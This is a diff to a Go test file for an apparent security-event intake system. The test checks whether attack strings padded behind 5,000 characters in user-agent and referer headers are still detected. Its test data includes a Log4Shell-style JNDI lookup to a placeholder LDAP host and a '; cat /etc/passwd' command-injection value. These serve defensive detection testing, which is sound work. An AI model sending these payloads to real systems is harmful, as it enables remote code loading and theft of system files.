@@ -272,3 +272,30 @@ func TestNothingHidesBehindALongPath(t *testing.T) {
 		i.Close()
 	}
 }
+
+func TestNothingHidesBehindALongHeader(t *testing.T) {
+	long := strings.Repeat("A", 5_000)
+	for _, tt := range []struct {
+		agent string
+		want  []string
+	}{
+		{long + "${jndi:ldap://192.0.2.1/a}", []string{event.RecordWebAttack, event.RecordHTTPRequest}},
+		{long + "; cat /etc/passwd", []string{event.RecordCommandInjection, event.RecordHTTPRequest}},
+		{"${jndi:ldap://192.0.2.1/a}" + long, []string{event.RecordHTTPRequest}},
+		{long, []string{event.RecordHTTPRequest}},
+	} {
+		for _, header := range []string{"user_agent", "referer"} {
+			l := &log{}
+			i := intake(t, l, t.TempDir())
+			takeRecords(t, i, "", []event.SecurityRecord{{Kind: event.RecordHTTPRequest, ID: "1", SourceIP: "203.0.113.9", Attributes: map[string]string{"path": "/", header: tt.agent}}})
+			var kinds []string
+			for _, r := range stored(t, l) {
+				kinds = append(kinds, r.Kind)
+			}
+			if diff := cmp.Diff(tt.want, kinds); diff != "" {
+				t.Errorf("%s %.20q…: -want +stored:\n%s", header, tt.agent, diff)
+			}
+			i.Close()
+		}
+	}
+}
